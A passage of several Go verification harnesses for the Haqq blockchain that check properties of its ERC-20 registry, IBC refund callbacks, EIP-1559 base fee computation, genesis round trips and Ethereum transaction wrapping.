	converted := coins1.IsZero() && tokens1.Cmp(new(big.Int).Add(tokens0, coins0.BigInt())) == 0
	zz.ObserveInt("coinsAfter", coins1)
	zz.Assert(untouched || converted, "a success acknowledgement is only given over a consistent state: nothing converted, or the whole balance converted 1:1")
	zz.Assert(c10Backed(e, coinOrigin), "the pair stays fully backed after a successful receive")
	if converted {
		zz.Reach("converted")
	}
	zz.Reach("end")
}
