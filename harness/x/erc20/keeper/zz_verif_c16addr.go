package keeper

// Harness for property C16 behind the bank precompile: balances() and totalSupply() report a coin under the ERC-20 address
// GetCoinAddress gives for its denomination, supplyOf() resolves an address back through the registry (GetTokenDenom). Both
// directions must agree for a registered pair - also when the denomination is an IBC voucher, whose hash-derived address is
// only the fallback for vouchers nobody registered.

import (
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/x/erc20/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

func VerifC16_CoinAddressAgreesWithRegistry() {
	env := zz.NewEnv([]string{"erc20"}, nil)
	k := Keeper{storeKey: env.Key("erc20"), cdc: zz.Codec()}
	ctx := env.Ctx
	const voucher = "ibc/27394FB092D2ECCD56123C74F36E4C1F926001CEADA9CA97EA622B25F41E5EB2"
	derived := common.HexToAddress("0xF36E4C1F926001CEADA9CA97EA622B25F41E5EB2") // the last 20 bytes of the voucher's hash
	denom := []string{"acoin", voucher, "ibc/", "ibc/zz"}[zz.Choose("denomination", 4)]
	registered := zz.AnyBool("registered")
	if registered {
		pair := types.NewTokenPair(c10Token, denom, types.OWNER_MODULE)
		k.SetTokenPair(ctx, pair)
		k.SetDenomMap(ctx, pair.Denom, pair.GetID())
		k.SetERC20Map(ctx, c10Token, pair.GetID())
	}
	addr, err := k.GetCoinAddress(ctx, denom)
	switch {
	case registered:
		zz.Assert(err == nil && addr == c10Token, "a registered denomination is reported under the ERC-20 address of its token pair")
		back, berr := k.GetTokenDenom(ctx, addr)
		zz.Assert(berr == nil && back == denom, "the address reported for a denomination resolves back to that denomination")
		zz.Reach("registered")
	case denom == voucher:
		zz.Assert(err == nil && addr == derived, "an unregistered IBC voucher is reported under the address derived from its hash")
		zz.Reach("voucher")
	default:
		zz.Assert(err != nil, "an unregistered denomination that is no IBC voucher has no address")
		zz.Reach("unknown")
	}
	zz.Reach("end")
}
