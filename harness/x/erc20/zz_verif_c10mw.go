package erc20

// Harness for property C10 at the IBC middleware: on an acknowledgement error or a timeout the ICS-20 module refunds the
// coins and the erc20 keeper converts them back into tokens. ConvertCoin escrows the coins first and checks the token
// contract's behaviour afterwards; it "fails without effect" only because its error aborts the surrounding transaction.
// The middleware therefore has to hand every error of the keeper's callback back to IBC core - an error that is logged and
// dropped commits the half-done conversion together with the refund.

import (
	"errors"

	"github.com/cosmos/cosmos-sdk/codec"
	sdk "github.com/cosmos/cosmos-sdk/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	channeltypes "github.com/cosmos/ibc-go/v7/modules/core/04-channel/types"
	"github.com/cosmos/gogoproto/proto"

	"github.com/haqq-network/haqq/ibc"
	"github.com/haqq-network/haqq/x/erc20/keeper"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/haqq-network/haqq/x/erc20/keeper.Keeper).OnTimeoutPacket -> c10mTimeout
//verif:override (github.com/haqq-network/haqq/x/erc20/keeper.Keeper).OnAcknowledgementPacket -> c10mAck
//verif:override (github.com/haqq-network/haqq/ibc.Module).OnTimeoutPacket -> c10mAppTimeout
//verif:override (github.com/haqq-network/haqq/ibc.Module).OnAcknowledgementPacket -> c10mAppAck
//verif:override (*github.com/cosmos/cosmos-sdk/codec.ProtoCodec).UnmarshalJSON -> c10mUnmarshalJSON

var c10m struct {
	appFails, conversionFails bool
	converted                 int
}

func c10mTimeout(k keeper.Keeper, ctx sdk.Context, packet channeltypes.Packet, data transfertypes.FungibleTokenPacketData) error {
	c10m.converted++
	if c10m.conversionFails {
		return errors.New("conversion of the refund failed after the coins were escrowed")
	}
	return nil
}
func c10mAck(k keeper.Keeper, ctx sdk.Context, packet channeltypes.Packet, data transfertypes.FungibleTokenPacketData, ack channeltypes.Acknowledgement) error {
	return c10mTimeout(k, ctx, packet, data)
}
func c10mAppTimeout(m ibc.Module, ctx sdk.Context, packet channeltypes.Packet, relayer sdk.AccAddress) error {
	if c10m.appFails {
		return errors.New("ICS-20 refund failed")
	}
	return nil
}
func c10mAppAck(m ibc.Module, ctx sdk.Context, packet channeltypes.Packet, acknowledgement []byte, relayer sdk.AccAddress) error {
	return c10mAppTimeout(m, ctx, packet, relayer)
}

// packet / acknowledgement JSON decoding is codec machinery: a well-formed packet decodes
func c10mUnmarshalJSON(pc *codec.ProtoCodec, bz []byte, ptr proto.Message) error {
	if d, ok := ptr.(*transfertypes.FungibleTokenPacketData); ok {
		d.Denom, d.Amount, d.Sender, d.Receiver = "erc20/0x00000000000000000000000000000000000000E2", "10", "haqq1sender", "cosmos1receiver"
	}
	return nil
}

func VerifC10_IbcCallbacksPropagateFailure() {
	c10m.appFails = zz.AnyBool("ics20RefundFails")
	c10m.conversionFails = zz.AnyBool("reconversionFails")
	c10m.converted = 0
	im := IBCMiddleware{Module: &ibc.Module{}}
	var err error
	if zz.Choose("callback", 2) == 0 {
		err = im.OnTimeoutPacket(sdk.Context{}, channeltypes.Packet{Data: []byte("{}")}, nil)
	} else {
		err = im.OnAcknowledgementPacket(sdk.Context{}, channeltypes.Packet{Data: []byte("{}")}, []byte("{}"), nil)
	}
	if c10m.appFails {
		zz.Assert(err != nil && c10m.converted == 0, "a failed refund is reported and nothing is converted")
	} else {
		zz.Assert(c10m.converted == 1, "after the refund the keeper converts the coins back")
		zz.Assert((err != nil) == c10m.conversionFails, "the callback fails exactly when the re-conversion fails: the transaction is rolled back and the conversion stays without effect")
	}
	zz.Reach("end")
}
