package keeper

import abci "github.com/cometbft/cometbft/abci/types"

func abciBegin() abci.RequestBeginBlock { return abci.RequestBeginBlock{} }
func abciEnd() abci.RequestEndBlock     { return abci.RequestEndBlock{} }
