package keeper

// Harnesses for property C17 (EIP-1559 base fee) - executed symbolically by gosym and natively for replay.

import (
	"math/big"

	sdkmath "cosmossdk.io/math"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	storetypes "github.com/cosmos/cosmos-sdk/store/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	paramstypes "github.com/cosmos/cosmos-sdk/x/params/types"

	"github.com/haqq-network/haqq/x/feemarket/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c17Env struct {
	k      Keeper
	ctx    sdk.Context
	params types.Params
	limit  *big.Int // block gas limit as the property defines it
	height int64
}

// c17Setup builds a keeper over fresh stores with arbitrary (valid) parameters and an arbitrary consensus gas limit.
func c17Setup() *c17Env { return c17SetupWith(true) }

// c17SetupWith(false) leaves the elasticity multiplier arbitrary: only what Params.Validate itself demands is assumed.
func c17SetupWith(elasticityPositive bool) *c17Env {
	env := zz.NewEnv([]string{"feemarket"}, []string{"transient_feemarket"})
	k := Keeper{cdc: zz.Codec(), storeKey: env.Key("feemarket"), transientKey: env.Key("transient_feemarket"), ss: paramstypes.Subspace{}}
	p := types.Params{
		NoBaseFee:                zz.AnyBool("noBaseFee"),
		BaseFeeChangeDenominator: zz.AnyUint32("denominator"),
		ElasticityMultiplier:     zz.AnyUint32("elasticity"),
		EnableHeight:             zz.AnyInt64In("enableHeight", 0, 1<<40),
		BaseFee:                  zz.AnyAmount("baseFee", 128),
		MinGasPrice:              zz.AnyDecRaw("minGasPrice", "0", "1000000000000000000000000000000000000000000000000000000000000"),
		MinGasMultiplier:         sdkmath.LegacyNewDecWithPrec(5, 1),
	}
	// Params.Validate: denominator != 0, elasticity != 0 (the latter since fix 0ae6ec2, finding C17-F1; that every
	// accepted parameter set admits the formula is VerifC17_ParamsAdmitFormula's subject).
	zz.Assume(p.BaseFeeChangeDenominator >= 1)
	if elasticityPositive {
		zz.Assume(p.ElasticityMultiplier >= 1)
	} else {
		zz.Assume(p.Validate() == nil) // the module's own validation, as run by MsgUpdateParams.ValidateBasic / genesis validation
	}
	if err := k.SetParams(env.Ctx, p); err != nil {
		panic(err)
	}
	e := &c17Env{k: k, params: p}
	e.height = zz.AnyInt64In("height", 0, 1<<40)
	ctx := env.Ctx.WithBlockHeight(e.height)
	switch zz.Choose("consParams", 3) {
	case 0: // no consensus params: unlimited
		e.limit = new(big.Int).SetUint64(^uint64(0))
	case 1: // MaxGas = -1: unlimited
		ctx = ctx.WithConsensusParams(&tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: -1}})
		e.limit = new(big.Int).SetUint64(^uint64(0))
	default:
		mg := zz.AnyInt64In("maxGas", 0, 1<<62)
		ctx = ctx.WithConsensusParams(&tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: mg}})
		e.limit = big.NewInt(mg)
		if mg == 0 {
			// MaxGas = 0 is a valid consensus parameter and means "no limit" too (baseapp's block gas meter, types.BlockGasLimit
			// and the gas estimation all read it that way): transactions are admitted, so gas is wanted
			e.limit = new(big.Int).SetUint64(^uint64(0))
		}
	}
	e.ctx = ctx
	return e
}

// c17Ref is the statement's formula. ok=false means "no base fee" (nil).
func c17Ref(e *c17Env, g uint64) (fee *big.Int, ok bool) {
	p := e.params
	if p.NoBaseFee || e.height < p.EnableHeight {
		return nil, false
	}
	base := p.BaseFee.BigInt()
	if e.height == p.EnableHeight {
		return base, true
	}
	T := new(big.Int).Div(e.limit, new(big.Int).SetUint64(uint64(p.ElasticityMultiplier)))
	den := new(big.Int).SetUint64(uint64(p.BaseFeeChangeDenominator))
	G := new(big.Int).SetUint64(g)
	switch G.Cmp(T) {
	case 0:
		return base, true
	case 1:
		d := new(big.Int).Sub(G, T)
		d.Mul(d, base)
		d.Div(d, T)
		d.Div(d, den)
		if d.Cmp(big.NewInt(1)) < 0 {
			d = big.NewInt(1)
		}
		return d.Add(d, base), true
	}
	d := new(big.Int).Sub(T, G)
	d.Mul(d, base)
	d.Div(d, T)
	d.Div(d, den)
	r := new(big.Int).Sub(base, d)
	floor := p.MinGasPrice.TruncateInt().BigInt()
	if r.Cmp(floor) < 0 {
		r = floor
	}
	return r, true
}

func c17TargetPositive(e *c17Env) bool {
	// block gas limit >= elasticity, i.e. target T >= 1 (T = 0 makes the real code divide by zero as soon as any gas is wanted;
	// a positive block gas limit below the elasticity multiplier admits no transaction at all - stated as outside the bound.
	// MaxGas = 0 is not such a case: it means no limit, see c17Setup)
	return e.limit.Cmp(new(big.Int).SetUint64(uint64(e.params.ElasticityMultiplier))) >= 0
}

// VerifC17_Formula: CalculateBaseFee equals the EIP-1559 formula of the statement, nil exactly when disabled.
func VerifC17_Formula() {
	e := c17Setup()
	zz.Assume(c17TargetPositive(e))
	g := zz.AnyUint64("gas")
	e.k.SetBlockGasWanted(e.ctx, g)
	got := e.k.CalculateBaseFee(e.ctx)
	want, ok := c17Ref(e, g)
	if !ok {
		zz.Assert(got == nil, "no base fee while disabled / before the enable height")
		zz.Reach("disabled")
		return
	}
	zz.Assert(got != nil, "a base fee is computed when enabled")
	zz.ObserveBig("got", got)
	zz.Assert(zz.BigEq(got, want), "base fee equals the EIP-1559 formula")
	zz.Reach("end")
}

// VerifC17_Bounds: unchanged at g=T, raised by at least 1 above, lowered but never below floor(minGasPrice) (nor above base) below.
func VerifC17_Bounds() {
	e := c17Setup()
	zz.Assume(c17TargetPositive(e))
	zz.Assume(!e.params.NoBaseFee)
	zz.Assume(e.height > e.params.EnableHeight)
	g := zz.AnyUint64("gas")
	e.k.SetBlockGasWanted(e.ctx, g)
	got := e.k.CalculateBaseFee(e.ctx)
	zz.Assert(got != nil, "a base fee is computed when enabled")
	base := e.params.BaseFee.BigInt()
	T := new(big.Int).Div(e.limit, new(big.Int).SetUint64(uint64(e.params.ElasticityMultiplier)))
	G := new(big.Int).SetUint64(g)
	floor := e.params.MinGasPrice.TruncateInt().BigInt()
	switch G.Cmp(T) {
	case 0:
		zz.Assert(zz.BigEq(got, base), "unchanged when g = T")
		zz.Reach("eq")
	case 1:
		zz.Assert(got.Cmp(new(big.Int).Add(base, big.NewInt(1))) >= 0, "raised by at least 1 when g > T")
		zz.Reach("above")
	default:
		zz.Assert(got.Cmp(floor) >= 0, "never below the configured minimum gas price")
		zz.Assert(zz.Or(got.Cmp(base) <= 0, zz.BigEq(got, floor)), "not raised when g < T (except up to the minimum gas price)")
		zz.Reach("below")
	}
	zz.Reach("end")
}

// VerifC17_Monotone: more gas never gives a lower base fee.
func VerifC17_Monotone() {
	e := c17Setup()
	zz.Assume(c17TargetPositive(e))
	zz.Assume(!e.params.NoBaseFee)
	zz.Assume(e.height > e.params.EnableHeight)
	// a parent base fee below the minimum gas price arises when governance raises the minimum above the current base fee
	below := e.params.BaseFee.LT(e.params.MinGasPrice.TruncateInt())
	g1 := zz.AnyUint64("gas1")
	g2 := zz.AnyUint64("gas2")
	zz.Assume(g1 <= g2)
	e.k.SetBlockGasWanted(e.ctx, g1)
	f1 := e.k.CalculateBaseFee(e.ctx)
	e.k.SetBlockGasWanted(e.ctx, g2)
	f2 := e.k.CalculateBaseFee(e.ctx)
	zz.Assert(f1 != nil && f2 != nil, "base fees computed")
	zz.ObserveBig("f1", f1)
	zz.ObserveBig("f2", f2)
	shape := ""
	if below {
		shape = " [shape C17-F2 parent base fee below the minimum gas price: the floor is applied in the lowering branch only]"
	}
	zz.Assert(f1.Cmp(f2) <= 0, "base fee is monotone in the gas figure"+shape)
	zz.Reach("end")
}

// VerifC17_BeginBlock: BeginBlock stores exactly the computed base fee; a second block from that state keeps base >= floor(min gas price).
func VerifC17_BeginBlock() {
	e := c17Setup()
	zz.Assume(c17TargetPositive(e))
	g := zz.AnyUint64("gas")
	e.k.SetBlockGasWanted(e.ctx, g)
	want, ok := c17Ref(e, g)
	e.k.BeginBlock(e.ctx, abciBegin())
	after := e.k.GetParams(e.ctx)
	if !ok {
		zz.Assert(after.BaseFee.Equal(e.params.BaseFee), "base fee untouched while disabled")
		zz.Reach("disabled")
		return
	}
	zz.ObserveInt("stored", after.BaseFee)
	zz.Assert(zz.BigEq(after.BaseFee.BigInt(), want), "BeginBlock stores the formula value")
	zz.Assert(after.ElasticityMultiplier == e.params.ElasticityMultiplier && after.BaseFeeChangeDenominator == e.params.BaseFeeChangeDenominator &&
		after.MinGasPrice.Equal(e.params.MinGasPrice) && after.EnableHeight == e.params.EnableHeight && after.NoBaseFee == e.params.NoBaseFee,
		"no other parameter changed")
	zz.Reach("end")
}

// VerifC17_EndBlock: the gas figure fed to the next block is max(floor(gasWanted x minGasMultiplier), gasUsed).
func VerifC17_EndBlock() {
	env := zz.NewEnv([]string{"feemarket"}, []string{"transient_feemarket"})
	k := Keeper{cdc: zz.Codec(), storeKey: env.Key("feemarket"), transientKey: env.Key("transient_feemarket"), ss: paramstypes.Subspace{}}
	mult := zz.AnyDecRaw("minGasMultiplier", "0", "1000000000000000000")
	p := types.DefaultParams()
	p.MinGasMultiplier = mult
	if err := k.SetParams(env.Ctx, p); err != nil {
		panic(err)
	}
	wanted := zz.AnyUint64In("gasWanted", 0, 1<<63-1)
	used := zz.AnyUint64In("gasUsed", 0, 1<<62)
	limit := zz.AnyUint64In("blockGasLimit", 0, 1<<62)
	zz.Assume(used <= limit)
	meter := storetypes.NewGasMeter(limit)
	meter.ConsumeGas(used, "txs")
	ctx := env.Ctx.WithBlockGasMeter(meter)
	k.SetTransientBlockGasWanted(ctx, wanted)
	k.SetBlockGasWanted(ctx, 7) // stale value that must be overwritten
	k.EndBlock(ctx, abciEnd())
	got := k.GetBlockGasWanted(ctx)
	zz.ObserveUint64("stored", got)
	limited := sdkmath.LegacyNewDec(int64(wanted)).Mul(mult).TruncateInt()
	want := sdkmath.MaxInt(limited, sdkmath.NewIntFromUint64(used))
	zz.Assert(sdkmath.NewIntFromUint64(got).Equal(want), "stored gas figure = max(floor(gasWanted*minGasMultiplier), gasUsed)")
	zz.Assert(got >= used, "declared-but-unpaid gas cannot push the figure below gas used")
	zz.Reach("end")
}


// VerifC17_ParamsAdmitFormula: every parameter set that the module's own validation accepts (Params.Validate, which
// SetParams / MsgUpdateParams / InitGenesis run) admits the formula: in an EIP-1559 block with a block gas limit of at
// least 1 per unit of elasticity the base fee is computed, not a division by zero. (CalculateBaseFee runs in BeginBlock.)
func VerifC17_ParamsAdmitFormula() {
	e := c17SetupWith(false)
	zz.Assume(!e.params.NoBaseFee)
	zz.Assume(e.height > e.params.EnableHeight)
	zz.Assume(e.limit.Cmp(new(big.Int).SetUint64(uint64(e.params.ElasticityMultiplier))) >= 0 && e.limit.Sign() > 0)
	e.k.SetBlockGasWanted(e.ctx, zz.AnyUint64("gas"))
	var got *big.Int
	panicked := zz.Try(func() { got = e.k.CalculateBaseFee(e.ctx) })
	zz.Assert(!panicked, "parameters accepted by Params.Validate never make the base fee computation panic")
	zz.Assert(panicked || got != nil, "a base fee is computed when enabled")
	zz.Reach("end")
}

// VerifC01_BaseFeeNoProcessState: the base fee is a function of the stored state and the block alone. Computing it twice
// from the same state - as a node does that answers a trace / fee-history query before executing the block, or two
// replicas living in one process - gives the same value both times, also right after a computation that went through the
// "increase rounds to zero, raise by 1" corner (which works on shared package-level big.Int constants).
func VerifC01_BaseFeeNoProcessState() {
	e := c17Setup()
	zz.Assume(c17TargetPositive(e))
	zz.Assume(!e.params.NoBaseFee)
	zz.Assume(e.height > e.params.EnableHeight)
	g0 := zz.AnyUint64("earlierGas")
	g := zz.AnyUint64("gas")
	// a first computation for g, on a fresh process
	e.k.SetBlockGasWanted(e.ctx, g)
	fresh := e.k.CalculateBaseFee(e.ctx)
	// the same process computes something else in between (another block, a query) ...
	e.k.SetBlockGasWanted(e.ctx, g0)
	_ = e.k.CalculateBaseFee(e.ctx)
	// ... and then the same thing again
	e.k.SetBlockGasWanted(e.ctx, g)
	again := e.k.CalculateBaseFee(e.ctx)
	zz.Assert(fresh != nil && again != nil, "base fees computed")
	zz.Assert(zz.BigEq(fresh, again), "the same stored state and block give the same base fee, whatever the process computed before")
	zz.Reach("end")
}
