package feemarket

// Harness for property C19 (genesis export/import), fee market module.

import (
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	paramstypes "github.com/cosmos/cosmos-sdk/x/params/types"

	"github.com/haqq-network/haqq/x/feemarket/keeper"
	"github.com/haqq-network/haqq/x/feemarket/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

func c19Keeper() (keeper.Keeper, sdk.Context) {
	env := zz.NewEnv([]string{"feemarket"}, []string{"transient_feemarket"})
	k := keeper.NewKeeper(zz.Codec(), authtypes.NewModuleAddress("gov"), env.Key("feemarket"), env.Key("transient_feemarket"), paramstypes.Subspace{})
	return k, env.Ctx
}

// VerifC19_Feemarket: Export(Init(Export(S))) = Export(S) for an arbitrary module state S, and the getters agree.
func VerifC19_Feemarket() {
	k1, ctx1 := c19Keeper()
	p := types.Params{
		NoBaseFee:                zz.AnyBool("noBaseFee"),
		BaseFeeChangeDenominator: zz.AnyUint32("denominator"),
		ElasticityMultiplier:     zz.AnyUint32("elasticity"),
		EnableHeight:             zz.AnyInt64("enableHeight"),
		BaseFee:                  zz.AnyAmount("baseFee", 200),
		MinGasPrice:              zz.AnyDecRaw("minGasPrice", "0", "1000000000000000000000000000000000000000000"),
		MinGasMultiplier:         zz.AnyDecRaw("minGasMultiplier", "0", "1000000000000000000"),
	}
	if err := k1.SetParams(ctx1, p); err != nil {
		panic(err)
	}
	if zz.AnyBool("hasBlockGas") {
		k1.SetBlockGasWanted(ctx1, zz.AnyUint64("blockGas"))
	}
	g1 := ExportGenesis(ctx1, k1)

	k2, ctx2 := c19Keeper()
	InitGenesis(ctx2, k2, *g1)
	g2 := ExportGenesis(ctx2, k2)

	zz.ObserveUint64("blockGas", g2.BlockGas)
	zz.ObserveInt("baseFee", g2.Params.BaseFee)
	zz.Assert(g2.BlockGas == g1.BlockGas, "block gas survives export/import")
	a, b := g1.Params, g2.Params
	zz.Assert(a.NoBaseFee == b.NoBaseFee && a.BaseFeeChangeDenominator == b.BaseFeeChangeDenominator && a.ElasticityMultiplier == b.ElasticityMultiplier &&
		a.EnableHeight == b.EnableHeight && a.BaseFee.Equal(b.BaseFee) && a.MinGasPrice.Equal(b.MinGasPrice) && a.MinGasMultiplier.Equal(b.MinGasMultiplier),
		"every parameter survives export/import")
	zz.Assert(k2.GetBlockGasWanted(ctx2) == k1.GetBlockGasWanted(ctx1), "GetBlockGasWanted answers identically")
	bf1, bf2 := k1.GetParams(ctx1).BaseFee, k2.GetParams(ctx2).BaseFee
	zz.Assert(bf1.Equal(bf2), "base fee query answers identically")
	zz.Reach("end")
}
