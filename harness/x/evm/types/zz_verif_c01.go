package types

// Harness for property C01 (replicas agree), node-local tracer setting: every node builds its EVM tracer from the operator's
// private evm.tracer option inside block execution (Keeper.Tracer -> NewTracer). Whatever the option is, building the tracer
// must not fail for a message that another node executes without a tracer.

import (
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	zz "github.com/haqq-network/haqq/zzverif"
)

// VerifC01_TracerConfig: NewTracer returns (does not panic) for every tracer name and for message calls and contract creations.
func VerifC01_TracerConfig() {
	names := []string{"", TracerAccessList, TracerJSON, TracerStruct, TracerMarkdown, "something-else"}
	name := names[zz.Choose("tracer", len(names))]
	from := common.HexToAddress("0x1000000000000000000000000000000000000001")
	toAddr := common.HexToAddress("0x2000000000000000000000000000000000000002")
	to := &toAddr
	if zz.AnyBool("contractCreation") {
		to = nil
	}
	msg := ethtypes.NewMessage(from, to, zz.AnyUint64In("nonce", 0, 1<<40), big.NewInt(0), 100000, big.NewInt(1), big.NewInt(1), big.NewInt(1), nil, nil, false)
	cfg := DefaultChainConfig().EthereumConfig(big.NewInt(11235))
	t := NewTracer(name, msg, cfg, 10)
	zz.Assert(t != nil, "a tracer is built for every setting and every message")
	zz.Reach("end")
}
