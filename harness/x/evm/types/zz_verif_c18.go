package types

// Harness for property C18 (Ethereum transactions survive the Cosmos envelope): field identity of
// FromEthereumTx -> (message with packed tx data) -> AsTransaction for the three transaction types, and the fee figures.

import (
	"math/big"
	"strings"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	zz "github.com/haqq-network/haqq/zzverif"
)

func c18Bytes(tag string, n int) []byte {
	b := make([]byte, n)
	for i := 0; i < n; i++ {
		b[i] = byte(zz.AnyUint64In(tag+string(rune('0'+i)), 0, 255))
	}
	return b
}

func c18AccessList() ethtypes.AccessList {
	switch zz.Choose("accessList", 4) {
	case 0:
		return nil
	case 1:
		return ethtypes.AccessList{}
	case 2:
		return ethtypes.AccessList{{Address: common.HexToAddress("0x1111111111111111111111111111111111111111"), StorageKeys: []common.Hash{common.HexToHash("0x01")}}}
	}
	// two tuples with two and one storage keys, plus an address without keys
	return ethtypes.AccessList{
		{Address: common.HexToAddress("0x1111111111111111111111111111111111111111"), StorageKeys: []common.Hash{common.HexToHash("0x01"), common.HexToHash("0x02")}},
		{Address: common.HexToAddress("0x2222222222222222222222222222222222222222"), StorageKeys: []common.Hash{common.HexToHash("0x03")}},
		{Address: common.HexToAddress("0x3333333333333333333333333333333333333333")},
	}
}

func c18To() *common.Address {
	switch zz.Choose("to", 4) {
	case 0:
		return nil // contract creation
	case 1:
		a := common.Address{} // the all-zero address is an ordinary recipient, not "no recipient"
		return &a
	case 2:
		a := common.HexToAddress("0x0000000000000000000000000000000000000001") // leading zero bytes
		return &a
	}
	a := common.HexToAddress("0xAbCdEf0123456789abcdef0123456789ABCDEF01")
	return &a
}

func c18Tx() *ethtypes.Transaction {
	nonce := zz.AnyUint64("nonce")
	gas := zz.AnyUint64("gas")
	value := zz.AnyBigAmount("value", 256)
	data := c18Bytes("data", zz.Choose("dataLen", 3))
	v, r, s := zz.AnyBigAmount("v", 64), zz.AnyBigAmount("r", 256), zz.AnyBigAmount("s", 256)
	to := c18To()
	switch zz.Choose("txType", 3) {
	case 0:
		return ethtypes.NewTx(&ethtypes.LegacyTx{Nonce: nonce, GasPrice: zz.AnyBigAmount("gasPrice", 256), Gas: gas, To: to, Value: value, Data: data, V: v, R: r, S: s})
	case 1:
		return ethtypes.NewTx(&ethtypes.AccessListTx{ChainID: zz.AnyBigAmount("chainID", 64), Nonce: nonce, GasPrice: zz.AnyBigAmount("gasPrice", 256), Gas: gas, To: to, Value: value, Data: data,
			AccessList: c18AccessList(), V: v, R: r, S: s})
	}
	return ethtypes.NewTx(&ethtypes.DynamicFeeTx{ChainID: zz.AnyBigAmount("chainID", 64), Nonce: nonce, GasTipCap: zz.AnyBigAmount("tipCap", 256), GasFeeCap: zz.AnyBigAmount("feeCap", 256), Gas: gas, To: to,
		Value: value, Data: data, AccessList: c18AccessList(), V: v, R: r, S: s})
}

func c18SameBig(a, b *big.Int) bool {
	if a == nil || b == nil {
		return a == nil && b == nil
	}
	return zz.BigEq(a, b)
}

// VerifC18_RoundTrip: wrapping a transaction into the message and unwrapping it yields identical fields.
func VerifC18_RoundTrip() {
	tx := c18Tx()
	msg := &MsgEthereumTx{}
	err := msg.FromEthereumTx(tx)
	zz.Assert(err == nil, "every in-range transaction can be wrapped")
	back := msg.AsTransaction()
	zz.Assert(back != nil, "the message unwraps")
	zz.Assert(back.Type() == tx.Type(), "transaction type survives")
	zz.Assert(back.Nonce() == tx.Nonce(), "nonce survives")
	zz.Assert(back.Gas() == tx.Gas(), "gas limit survives")
	zz.ObserveBig("value", back.Value())
	zz.Assert(zz.BigEq(back.Value(), tx.Value()), "value survives")
	zz.Assert(zz.BigEq(back.GasPrice(), tx.GasPrice()), "gas price survives")
	zz.Assert(zz.BigEq(back.GasFeeCap(), tx.GasFeeCap()), "fee cap survives")
	zz.Assert(zz.BigEq(back.GasTipCap(), tx.GasTipCap()), "tip cap survives")
	zz.Assert(zz.BigEq(back.ChainId(), tx.ChainId()), "chain id survives")
	if tx.To() == nil {
		zz.Assert(back.To() == nil, "contract creation stays contract creation")
	} else {
		zz.Assert(back.To() != nil && *back.To() == *tx.To(), "recipient survives")
	}
	d1, d2 := tx.Data(), back.Data()
	zz.Assert(len(d1) == len(d2), "data length survives")
	for i := range d1 {
		zz.Assert(d1[i] == d2[i], "data bytes survive")
	}
	a1, a2 := tx.AccessList(), back.AccessList()
	zz.Assert(len(a1) == len(a2), "access list length survives")
	for i := range a1 {
		zz.Assert(a1[i].Address == a2[i].Address && len(a1[i].StorageKeys) == len(a2[i].StorageKeys), "access tuple survives")
		for j := range a1[i].StorageKeys {
			zz.Assert(a1[i].StorageKeys[j] == a2[i].StorageKeys[j], "storage key survives")
		}
	}
	v1, r1, s1 := tx.RawSignatureValues()
	v2, r2, s2 := back.RawSignatureValues()
	zz.Assert(zz.BigEq(v1, v2) && zz.BigEq(r1, r2) && zz.BigEq(s1, s2), "signature values survive")
	zz.Reach("end")
}

// VerifC18_Fees: fee, cost and effective price derived from the message equal those of the original transaction.
func VerifC18_Fees() {
	tx := c18Tx()
	txData, err := NewTxDataFromTx(tx)
	zz.Assert(err == nil, "every in-range transaction converts")
	gas := new(big.Int).SetUint64(tx.Gas())
	wantFee := new(big.Int).Mul(tx.GasPrice(), gas) // go-ethereum: gasPrice (fee cap for dynamic-fee) x gas
	zz.ObserveBig("fee", txData.Fee())
	zz.Assert(zz.BigEq(txData.Fee(), wantFee), "Fee = gas price x gas limit of the original")
	zz.Assert(zz.BigEq(txData.Cost(), tx.Cost()), "Cost equals go-ethereum's Cost() of the original")
	baseFee := zz.AnyBigAmount("baseFee", 200)
	price := txData.EffectiveGasPrice(baseFee)
	var wantPrice *big.Int
	if tx.Type() == ethtypes.DynamicFeeTxType {
		wantPrice = new(big.Int).Add(tx.GasTipCap(), baseFee)
		if wantPrice.Cmp(tx.GasFeeCap()) > 0 {
			wantPrice = tx.GasFeeCap()
		}
	} else {
		wantPrice = tx.GasPrice()
	}
	zz.ObserveBig("price", price)
	zz.Assert(zz.BigEq(price, wantPrice), "effective gas price = min(tip + base fee, fee cap) (gas price for legacy types)")
	zz.Assert(zz.BigEq(txData.EffectiveFee(baseFee), new(big.Int).Mul(wantPrice, gas)), "effective fee = effective price x gas")
	zz.Assert(zz.BigEq(txData.EffectiveCost(baseFee), new(big.Int).Add(new(big.Int).Mul(wantPrice, gas), tx.Value())), "effective cost = effective fee + value")
	zz.Reach("end")
}

// VerifC18_RecordedHash: the hash a message records is a string; a message that passes ValidateBasic records exactly the
// canonical hash of the transaction it carries (lower-case hex, 0x prefix, 32 bytes) - not merely some spelling that parses
// to the same bytes. The string is what events, the indexer and the JSON-RPC lookups compare with.
func VerifC18_RecordedHash() {
	to := common.HexToAddress("0xAbCdEf0123456789abcdef0123456789ABCDEF01")
	var tx *ethtypes.Transaction
	switch zz.Choose("txType", 3) {
	case 0:
		tx = ethtypes.NewTx(&ethtypes.LegacyTx{Nonce: 1, GasPrice: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(27), R: big.NewInt(1), S: big.NewInt(1)})
	case 1:
		tx = ethtypes.NewTx(&ethtypes.AccessListTx{ChainID: big.NewInt(11235), Nonce: 1, GasPrice: big.NewInt(7), Gas: 21000, To: &to, Value: big.NewInt(1), V: big.NewInt(0), R: big.NewInt(1), S: big.NewInt(1)})
	default:
